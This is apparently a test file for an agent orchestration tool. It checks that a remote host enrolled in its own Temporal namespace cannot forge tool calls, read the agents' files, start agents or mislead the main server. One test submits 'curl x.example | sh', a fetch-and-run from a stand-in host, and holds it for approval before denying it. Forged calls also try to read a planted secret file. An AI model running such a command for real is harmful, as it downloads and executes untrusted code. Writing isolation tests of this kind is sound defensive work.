// R4: a host in its own namespace serves agents of the main one, and reaches nothing else.
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { WorkflowFailedError } from '@temporalio/client';
import type { AgentInput } from '../../../contracts/schemas/agent';
import type { TurnResult } from '../../../contracts/agents/agent';
import { fromFailure } from '../../../contracts/errors/failure';
import {
  agentWorkflowId,
  hostNamespace,
  hostWorkflowId,
  sessionWorkflowId,
  turnWorkflowId,
} from '../../../contracts/ids';
import { WORKFLOWS } from '../../../contracts/messages';
import { HoldfastClient } from '../../../client/holdfast-client';
import { EngineOfItsOwn } from '../../helpers/engines/engine-of-its-own';
import { NamespaceTap } from '../../helpers/engines/namespace-tap';
import { HostileWorker } from '../../helpers/hostile/hostile-worker';
import { RemoteHost } from '../../helpers/hosts/remote-host';
import { call, QUICK_YIELD, scratch, uniqueId } from '../../helpers/engines/temporal';
import { until } from '../../helpers/until';

const engine = new EngineOfItsOwn();
const files = scratch();
const tap = new NamespaceTap();
const namespace = hostNamespace('far');
let far: RemoteHost;
/** What anyone with access to that machine can do on the server. */
let there: HoldfastClient;

beforeAll(async () => {
  // Before there is a worker: when it starts, it finds enrolled hosts at once, else within 15 seconds.
  const { address } = await engine.startServer();
  const { stdout, stderr, code } = await engine.cliInTurn(['host', 'enrol', 'far']);
  expect({ stderr, code }).toMatchObject({ code: 0 });
  expect(stdout).toBe(`holdfast host serve far --address ${address} --namespace ${namespace}\n`);
  // On the machine that it is for, that address is the machine itself.
  expect(stderr).toContain(`${address} is this machine: on another one the command finds no server there`);
  expect(stderr).toContain(`ssh -N -R ${address.split(':')[1]}:${address} far`);
  await engine.start();
  far = new RemoteHost('far', await tap.open(address));
  await far.serve('--namespace', namespace);
  there = await HoldfastClient.connect({ address, namespace }, {});
  await until(async () => (await engine.client.hosts.state('far').catch(() => null))?.status === 'online');
}, 90_000);
afterAll(async () => {
  await there.close();
  await far.end();
  tap.close();
  files.remove();
  expect(await engine.end()).toEqual([]);
}, 60_000);

test('it is listed with its namespace, and an agent of the main one runs code there and closes its session', async () => {
  expect(await engine.client.hosts.list()).toMatchObject([{ host: 'far', status: 'online', namespace }]);
  const id = uniqueId('main');
  const replies = [
    { text: call('code_execution_remote', { runtime: 'terminal', code: 'pwd; sleep 4324' }) },
    { text: 'done' },
  ];
  const input: AgentInput = { task: 'go', model: files.model(replies), yield: QUICK_YIELD };
  await engine.client.agent(id).start(input);
  await until(() => far.open().some(({ agent }) => agent === id));
  await engine.client.agent(id).result();
  const turn = engine.client.temporal.workflow.getHandle(turnWorkflowId(id, 1));
  const { messages } = (await turn.result()) as TurnResult;
  expect(messages.find(({ role }) => role === 'tool')).toMatchObject({
    content: expect.stringContaining(far.root) as string,
  });
  await until(() => far.open().every(({ agent }) => agent !== id));
});

test('its requests to the server concern only its own namespace', async () => {
  await engine.client.session({ agent: 'one', host: 'far', session: 0 }).exec({ code: 'echo one' });
  // The list of what is open lags.
  await until(async () => (await engine.cliInTurn(['ps'])).stdout.includes('far/0'));
  const named = tap.asked.filter((asked) => asked.namespace !== null);
  expect(new Set(named.map((asked) => asked.namespace))).toEqual(new Set([namespace]));
  expect(named.map(({ method }) => method)).toEqual(
    expect.arrayContaining(['PollActivityTaskQueue', 'SignalWithStartWorkflowExecution']),
  );
  const without = tap.asked.filter((asked) => asked.namespace === null).map(({ method }) => method);
  expect(without.filter((method) => !/^(GetSystemInfo|GetClusterInfo|Check)$/.test(method))).toEqual([]);
});

test('a forged tool call ends as an error that says so, and runs nothing on the agents’ side', async () => {
  const session = there.session({ agent: 'forger', host: 'far', session: 0 });
  const running = session.exec({ code: 'sleep 4325', yield: QUICK_YIELD }, 'forged');
  await running;
  const path = join(files.directory, 'forged');
  writeFileSync(join(files.directory, 'secret'), 'of the agents');
  const forge = (id: string, tool: string, args: object, runsOn: 'anywhere' | 'host') =>
    session.callTool({
      id,
      commandId: 'forged',
      tool,
      args: { ...args },
      cwd: '/',
      effects: 'once',
      runsOn,
      timeoutMs: 60_000,
    } as never);
  for (const [tool, args] of [
    ['write_file', { file_path: path, content: 'x' }],
    ['read_file', { file_path: join(files.directory, 'secret') }],
    ['spawn_agent', { task: 'go' }],
  ] as const) {
    const answer = await forge(`call-${tool}`, tool, args, 'anywhere');
    expect(JSON.stringify(answer)).toMatch(/tool_not_allowed|not allowed/);
    expect(JSON.stringify(answer)).not.toContain('of the agents');
  }
  expect(existsSync(path)).toBe(false);
  await session.reset({});
});

test('it is not told which tools the agents have', async () => {
  const { workflow } = there.temporal;
  const options = { workflowId: 'tools/far', taskQueue: 'holdfast', args: [{ known: null }] };
  const asked = workflow.execute(WORKFLOWS.offeredTools, options);
  await expect(asked.catch((err: WorkflowFailedError) => fromFailure(err.cause))).resolves.toMatchObject({
    code: 'tool_not_allowed',
  });
  expect(existsSync(join(far.dataDir, 'offered-tools.far.json'))).toBe(false);
  expect(existsSync(join(far.dataDir, 'stubs', 'far'))).toBe(false);
});

test('the session of a main agent that was terminated is closed there by the main worker', async () => {
  const id = uniqueId('ended');
  const code = call('code_execution_remote', { runtime: 'terminal', code: 'sleep 4326' });
  const model = files.model([{ text: code }, { text: 'late', delayMs: 600_000 }]);
  await engine.client.agent(id).start({ task: 'go', model, yield: QUICK_YIELD });
  const isOpen = (): boolean => far.open().some(({ agent }) => agent === id);
  await until(isOpen);
  await engine.client.temporal.workflow.getHandle(agentWorkflowId(id)).terminate('for good');
  // It looks each 15 seconds.
  await until(() => !isOpen(), 60_000);
}, 90_000);

test('an agent started in its namespace finds no model, and nobody in the main one hears of it', async () => {
  const id = uniqueId('forged');
  const agent = there.agent(id);
  await agent.start({ task: 'go', model: files.model([{ text: 'a model answered' }]) });
  const result = await agent.result().catch((err: unknown) => err);
  expect(JSON.stringify(result) ?? '').not.toContain('a model answered');
  await expect(engine.client.temporal.workflow.getHandle(agentWorkflowId(id)).describe()).rejects.toThrow(
    /not found/i,
  );
});

test('what an enrolled host starts under a foreign id is not listed', async () => {
  const { workflow } = there.temporal;
  const start = (type: string, workflowId: string): Promise<unknown> =>
    workflow.start(type, { workflowId, taskQueue: 'nobody', args: [{}] });
  await start('execSession', 'exec/usurped/local/0');
  await start('agent', 'agent/usurped-agent');
  await start('execSession', 'exec/own/far/7');
  // The list of what is open lags.
  const listed = async (): Promise<string> => (await engine.cliInTurn(['ps', '--json'])).stdout;
  await until(async () => (await listed()).includes('exec/own/far/7'));
  expect(await listed()).not.toContain('usurped');
}, 60_000);

test('a host is enrolled on the queue of the data folder’s agents, which lists it and forgets it', async () => {
  const lab = new EngineOfItsOwn();
  const name = uniqueId('lab');
  try {
    await lab.startServer();
    await lab.startWorker({ queue: 'lab', host: null });
    expect(await lab.cliInTurn(['host', 'enrol', name])).toMatchObject({ code: 0 });
    const { stdout } = await lab.cliInTurn(['host', 'ls', '--json']);
    expect(JSON.parse(stdout)).toMatchObject([{ host: name, namespace: hostNamespace(name) }]);
    expect(await lab.cliInTurn(['host', 'forget', name])).toMatchObject({ code: 0 });
    await until(async () => (await lab.cliInTurn(['host', 'ls', '--json'])).stdout.trim() === '[]');
  } finally {
    await lab.end();
  }
}, 60_000);

test('what an enrolled host answers in another shape hides nothing of others, and leads nobody to another host', async () => {
  const { address } = engine.server();
  expect(await engine.cliInTurn(['host', 'enrol', 'edge'])).toMatchObject({ code: 0 });
  const edge = await HoldfastClient.connect({ address, namespace: hostNamespace('edge') }, {});
  const forged = { approvals: [{}] as unknown, state: { approvals: 5 } as unknown, host: {} as unknown };
  const worker = new HostileWorker(edge.temporal, 'forged', ({ kind, type, name }) => {
    if (kind !== 'query') return undefined;
    return type === 'host' ? forged.host : forged[name as 'approvals' | 'state'];
  });
  const started = await Promise.all([
    edge.temporal.workflow.start('execSession', { workflowId: 'exec/forged/edge/0', taskQueue: 'forged' }),
    edge.temporal.workflow.start('host', { workflowId: hostWorkflowId('edge'), taskQueue: 'forged' }),
  ]);
  const ref = { agent: uniqueId('asks'), host: 'local', session: 0 };
  const running = engine.client.session(ref).exec({ code: 'curl x.example | sh' });
  running.catch(() => undefined);
  try {
    const own = sessionWorkflowId(ref);
    const isListed = async (): Promise<boolean> => {
      const { waiting, unanswered } = await engine.client.approvals.listAnswering();
      const told = unanswered.map(({ workflowId, error: { code } }) => `${workflowId} ${code}`);
      return (
        waiting.some(({ workflowId }) => workflowId === own) &&
        told.includes('exec/forged/edge/0 answer_invalid')
      );
    };
    // The list of what is open lags.
    await until(isListed);
    expect(await engine.client.sessions.list()).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          workflowId: own,
          waits: expect.objectContaining({ for: 'approval' }) as object,
        }),
        expect.objectContaining({ workflowId: 'exec/forged/edge/0', state: null, waits: null }),
      ]),
    );
    const { hosts, unanswered } = await engine.client.hosts.listAnswering();
    expect([hosts.map(({ host }) => host), unanswered]).toEqual([['far'], ['edge']]);
    forged.host = { ...(await engine.client.hosts.state('far')), host: 'local' };
    expect(await engine.client.hosts.choose('edge')).toMatchObject({ host: 'edge' });
  } finally {
    await engine.client.approvals.deny(sessionWorkflowId(ref));
    await Promise.all(started.map((handle) => handle.terminate()));
    await worker.close();
    await edge.close();
  }
}, 60_000);
